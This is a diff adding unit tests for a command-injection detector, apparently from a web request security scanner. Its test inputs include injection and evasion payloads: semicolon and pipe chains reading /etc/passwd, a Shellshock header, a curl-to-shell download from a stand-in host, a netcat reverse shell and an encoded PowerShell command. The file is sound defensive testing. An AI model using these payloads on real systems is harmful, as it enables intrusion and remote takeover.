@@ -0,0 +1,135 @@
+/**
+ * Unit tests for Command Injection Module
+ */
+
+const CMDiModule = require('../../lib/modules/cmdi');
+const { createAnalysis, patternsFor } = require('../helpers');
+
+describe('CMDi Module', () => {
+  let cmdiModule;
+
+  beforeEach(() => {
+    cmdiModule = new CMDiModule({});
+  });
+
+  describe('Metacharacter Chains', () => {
+    test('should detect semicolon chains', () => {
+      const result = cmdiModule.analyze(createAnalysis({
+        query: { file: 'image.png; cat /etc/passwd' }
+      }));
+
+      expect(result.module).toBe('cmdi');
+      expect(patternsFor(result)).toContain('semicolon-command');
+      expect(patternsFor(result)).toContain('recon-binary');
+    });
+
+    test('should detect pipes and && chains', () => {
+      const piped = cmdiModule.analyze(createAnalysis({ query: { host: '127.0.0.1 | whoami' } }));
+      const chained = cmdiModule.analyze(createAnalysis({ query: { host: '127.0.0.1 && id' } }));
+
+      expect(patternsFor(piped)).toContain('pipe-command');
+      expect(patternsFor(chained)).toContain('and-command');
+    });
+
+    test('should detect backtick and $() substitution', () => {
+      const result = cmdiModule.analyze(createAnalysis({
+        body: { name: 'photo`whoami`.jpg', size: '$(id)' }
+      }));
+
+      expect(patternsFor(result)).toContain('backtick-substitution');
+      expect(patternsFor(result)).toContain('dollar-substitution');
+    });
+
+    test('should detect newline injection', () => {
+      const result = cmdiModule.analyze(createAnalysis({
+        query: { host: '127.0.0.1\nls -la' }
+      }));
+
+      expect(patternsFor(result)).toContain('newline-command');
+    });
+  });
+
+  describe('Evasion Techniques', () => {
+    test('should detect ${IFS} evasion', () => {
+      const result = cmdiModule.analyze(createAnalysis({
+        query: { file: ';cat${IFS}/etc/passwd' }
+      }));
+
+      expect(patternsFor(result)).toContain('ifs-evasion');
+      expect(patternsFor(result)).toContain('semicolon-command');
+    });
+
+    test('should detect quote-split command names', () => {
+      const result = cmdiModule.analyze(createAnalysis({
+        query: { q: 'w"h"o"am"i' }
+      }));
+
+      expect(patternsFor(result)).toContain('quote-evasion');
+    });
+
+    test('should detect Shellshock in headers', () => {
+      const result = cmdiModule.analyze(createAnalysis({
+        headers: { 'user-agent': '() { :; }; /bin/bash -c "id"' }
+      }));
+
+      expect(patternsFor(result)).toContain('shellshock');
+      expect(result.threats[0].location).toBe('REQUEST_HEADERS:user-agent');
+    });
+  });
+
+  describe('Recon Binaries and Windows Forms', () => {
+    test('should detect download and execute', () => {
+      const result = cmdiModule.analyze(createAnalysis({
+        query: { url: 'x; curl http://evil.example/x.sh | sh' }
+      }));
+
+      expect(patternsFor(result)).toContain('download-binary');
+      expect(patternsFor(result)).toContain('download-execute');
+      expect(result.threats.every(threat => threat.location === 'ARGS:url')).toBe(true);
+      expect(result.score).toBeGreaterThanOrEqual(10);
+    });
+
+    test('should detect reverse shells', () => {
+      const result = cmdiModule.analyze(createAnalysis({
+        query: { host: '1.1.1.1; nc -e /bin/sh 10.0.0.1 4444' }
+      }));
+
+      expect(patternsFor(result)).toContain('reverse-shell');
+    });
+
+    test('should check long command arguments in linear time', () => {
+      const values = ['wget' + ' '.repeat(30000), 'wget a '.repeat(10000), 'nc ' + '-a '.repeat(20000), '$('.repeat(30000)];
+
+      values.forEach(value => {
+        const started = Date.now();
+        cmdiModule.analyze(createAnalysis({ query: { q: value } }));
+        expect(Date.now() - started).toBeLessThan(500);
+      });
+    });
+
+    test('should detect cmd /c and PowerShell', () => {
+      const result = cmdiModule.analyze(createAnalysis({
+        query: { a: 'x & cmd /c dir', b: 'powershell -enc SQBFAFgA' }
+      }));
+
+      expect(patternsFor(result)).toContain('windows-cmd');
+      expect(patternsFor(result)).toContain('powershell');
+    });
+  });
+
+  describe('Safe Requests', () => {
+    test('should allow normal values and headers', () => {
+      const result = cmdiModule.analyze(createAnalysis({
+        query: { q: 'cats & dogs', sort: 'name;asc' },
+        body: { bio: 'I use curl and wget daily' },
+        headers: {
+          'user-agent': 'Mozilla/5.0 (X11; Linux x86_64)',
+          'accept': 'text/html; charset=utf-8',
+          'cookie': 'theme=dark; id=42'
+        }
+      }));
+
+      expect(result).toBeNull();
+    });
+  });
+});